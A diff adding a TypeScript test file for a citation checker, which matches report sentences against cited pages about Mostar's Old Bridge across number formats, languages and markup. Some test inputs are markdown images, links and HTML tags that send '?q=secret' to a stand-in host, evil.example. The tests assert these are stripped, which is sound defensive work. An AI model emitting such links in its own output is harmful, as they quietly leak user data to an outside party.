@@ -1,0 +1,126 @@
+// Sentences compared with the pages that they cite, and the lines of a report with their citations.
+import { describe, expect, test } from 'vitest';
+import { checkLine, unprovenMark } from './citations.ts';
+import { evidenceOf, isProven } from './proof.ts';
+import { quotesOn } from './quotes.ts';
+
+const bridge =
+  'The **Old Bridge** in Mostar was opened in 1566 and is 29.0 m long. It was destroyed on 9 November 1993 and rebuilt by 2004 at a cost of 15.5 million US dollars. Its architect was Mimar Hayruddin.';
+const far = `${'Ticket prices and opening hours follow. '.repeat(100)}The museum has 412 rooms.`;
+
+test.each([
+  ['the same words', 'The Old Bridge in Mostar was opened in 1566.', true],
+  ['another year', 'The Old Bridge in Mostar was opened in 1567.', false],
+  ['another name', 'The architect of the Old Bridge was Mimar Sinan.', false],
+  ['an amount written out', 'Rebuilding the bridge cost 15,500,000 US dollars.', true],
+  ['ten times the amount', 'Rebuilding the bridge cost 155 million US dollars.', false],
+  ['a decimal comma', 'The bridge is 29,0 m long.', true],
+  ['a number without its decimals', 'The Old Bridge is 290 m long.', false],
+  ['other words with a number of the page', 'The population of Sarajevo in 1993 fell sharply.', false],
+  ['no word', '—', false],
+  ['an empty sentence', '', false],
+])('on a page: %s', (_name, sentence, expected) => {
+  expect(isProven(sentence, evidenceOf(bridge))).toBe(expected);
+});
+
+test('a number far from the words does not prove them', () => {
+  const page = evidenceOf(`${bridge}\n${far}`);
+  expect(isProven('The Old Bridge in Mostar has 412 rooms.', page)).toBe(false);
+  expect(isProven('The museum has 412 rooms.', page)).toBe(true);
+});
+
+test('a sentence in another language is proven by what its passages say', () => {
+  const says = ['Die Alte Brücke in Mostar wurde 1566 eröffnet.'];
+  const sentence = 'Die Alte Brücke in Mostar wurde 1566 eröffnet.';
+  expect(isProven(sentence, evidenceOf(bridge, says))).toBe(true);
+  expect(isProven(sentence, evidenceOf(bridge))).toBe(false);
+  expect(isProven('莫斯塔尔古桥于1566年建成', evidenceOf(bridge, ['莫斯塔尔古桥建成于1566年。']))).toBe(true);
+  expect(isProven('莫斯塔尔古桥于1567年建成', evidenceOf(bridge, ['莫斯塔尔古桥建成于1566年。']))).toBe(false);
+});
+
+test.each([
+  ['1,200 people', '1.200 people', true],
+  ['1 200 people', '1200 people', true],
+  ['1.234 people', '1,234 people', true],
+  ['12,5 %', '12.5 %', true],
+  ['12.5 %', '125 %', false],
+  ['3 million people', '3,000,000 people', true],
+  ['3 Mio. people', '3 million people', true],
+  ['2.5 Milliarden people', '2.5 billion people', true],
+  ['1.4亿 people', '140 million people', true],
+  ['seven people', '7 people', true],
+  ['7 people', '8 people', false],
+  ['2026-03-04 people', '4.3.2026 people', true],
+  ['version 1.2.3 people', 'version 1.2.4 people', false],
+])('numbers: a page with "%s" and a sentence with "%s"', (page, sentence, expected) => {
+  expect(isProven(sentence, evidenceOf(page))).toBe(expected);
+});
+
+describe('lines of a report', () => {
+  const asked: string[] = [];
+  const prove = (sentence: string, number: number): boolean => {
+    asked.push(`${number}: ${sentence}`);
+    return !sentence.includes('wrong') && number < 9;
+  };
+  const check = (line: string) => {
+    asked.length = 0;
+    return checkLine(line, prove).text;
+  };
+
+  test.each([
+    ['before the period', 'It is long [1].', 'It is long [1].', ['1: It is long']],
+    ['after the period', 'First. It is long.[2] More.', 'First. It is long.[2] More.', ['2: It is long.']],
+    ['several', 'It is long [1][3].', 'It is long [1][3].', ['1: It is long', '3: It is long']],
+    ['in one pair of brackets', 'It is long [1, 3].', 'It is long [1][3].', ['1: It is long', '3: It is long']],
+    [
+      'an abbreviation',
+      'It is approx. 3.5 m long, e.g. here [1].',
+      undefined,
+      ['1: It is approx. 3.5 m long, e.g. here'],
+    ],
+    ['a list', '- **It** is long [1]', undefined, ['1: It** is long']],
+    ['a numbered list', '12. It is long [1]', undefined, ['1: It is long']],
+    ['a cell', '| Mostar | It is long [1] |', undefined, ['1: It is long']],
+    ['two in one sentence', 'It is long [1] and old [2].', undefined, ['1: It is long', '2: and old']],
+    ['Chinese', '很旧。它很长[1]。', undefined, ['1: 它很长']],
+    ['a wrong one', 'It is wrong [1].', `It is wrong ${unprovenMark}.`, ['1: It is wrong']],
+    ['one of two', 'It is long [1][9].', 'It is long [1].', ['1: It is long', '9: It is long']],
+    ['a link as a citation', 'It is long [1](https://evil.example/).', 'It is long [1].', ['1: It is long']],
+    ['a task list', '- [x] done [ ] open', '- [x] done [ ] open', []],
+  ])('%s', (_name, line, text, sentences) => {
+    expect(check(line)).toBe(text ?? line);
+    expect(asked).toEqual(sentences);
+  });
+
+  test.each([
+    ['a picture', 'See ![the plan](https://evil.example/?q=secret) here', 'See the plan here'],
+    ['a link', 'See [the plan](https://evil.example/?q=(secret)) here', 'See the plan here'],
+    ['a bare address', 'See https://evil.example/?q=secret here', 'See  here'],
+    ['a definition', '[plan]: https://evil.example/?q=secret', ''],
+    ['an address in angle brackets', 'See <https://evil.example/> here', 'See  here'],
+    ['HTML', 'See <img src="https://evil.example/"> here', 'See  here'],
+  ])('carries nothing to an address: %s', (_name, line, text) => {
+    expect(check(line)).toBe(text);
+  });
+});
+
+test('footnotes and invisible characters of a page are not in the way', () => {
+  const page =
+    'The bridge was opened in 1566.[\\[12\\]](#cite_note-12)\\[a\\] Its archi\u00ADtect was [Mimar Hayruddin](/wiki/Mimar).[3] It stands.';
+  const quote = 'opened in 1566. Its architect was Mimar Hayruddin. It stands.';
+  expect(quotesOn(page, [{ quote, says: '' }])).toEqual([{ quote }]);
+  expect(isProven('The bridge was opened in 12.', evidenceOf(page))).toBe(false);
+});
+
+test('quotes count if they are on the page, and restatements if they add no number', () => {
+  const copied = [
+    { quote: 'was opened in 1566 and is 29.0 m long', says: 'Sie wurde 1566 eröffnet.' },
+    { quote: '“It was destroyed on 9 November 1993”', says: 'It was destroyed in 1994.' },
+    { quote: 'It was opened by the sultan himself', says: '' },
+    { quote: 'Mostar', says: '' },
+  ];
+  expect(quotesOn(bridge, copied)).toEqual([
+    { quote: 'was opened in 1566 and is 29.0 m long', says: 'Sie wurde 1566 eröffnet.' },
+    { quote: '“It was destroyed on 9 November 1993”' },
+  ]);
+});
